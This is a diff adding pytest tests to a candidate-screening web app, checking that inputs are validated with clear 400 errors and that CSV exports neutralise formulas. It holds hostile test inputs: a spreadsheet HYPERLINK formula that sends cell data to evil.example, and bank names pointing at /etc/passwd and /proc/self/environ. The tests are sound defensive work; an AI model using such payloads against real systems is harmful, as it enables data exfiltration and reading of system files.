@@ -295,3 +295,35 @@ def test_the_csv_export_never_carries_a_live_formula(site):
     exported = client.get(f"{screening}/export.csv").text.removeprefix("\ufeff")
     [row] = list(csv.DictReader(io.StringIO(exported)))
     assert row["candidate"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.parametrize(
+    ("fields", "message"),
+    [
+        ({"bank": "/etc/passwd"}, "no bank named '/etc/passwd'"),
+        ({"bank": "/proc/self/environ"}, "no bank named '/proc/self/environ'"),
+        ({"name": "Q3\x00 hires"}, "contains control characters"),
+        ({"name": "\u200b \u3000"}, "is empty"),
+        ({"name": "x" * 201}, "longer than 200 characters"),
+        ({"minutes": "99999999999"}, "from 1 to 240"),
+    ],
+)
+def test_screening_inputs_are_checked_with_a_clear_4xx(site, fields, message):
+    client, _ = site
+    csrf = logged_in(client)
+    data = {"csrf": csrf, "name": "Q3", "bank": "ecommerce-marketing-zh", "questions": "3", "mode": "exam",
+            "backend": "offline", "model": "", "minutes": "", **fields}  # fmt: skip
+    response = client.post("/screenings", data=data, follow_redirects=False)
+    assert response.status_code == 400 and message in response.text
+    assert "root:" not in response.text
+
+
+def test_invisible_candidate_names_and_nul_bytes_are_refused(site):
+    client, _ = site
+    csrf = logged_in(client)
+    screening = new_screening(client, csrf, questions="3")
+    for name in ("\u200b\u200b", "Ann\x00"):
+        response = client.post(f"{screening}/invites", data={"csrf": csrf, "candidate": name})
+        assert response.status_code == 400
+    bad = client.post("/login", data={"email": "a\x00@example.org", "password": "x" * 12})
+    assert bad.status_code == 400 and "control characters" in bad.text
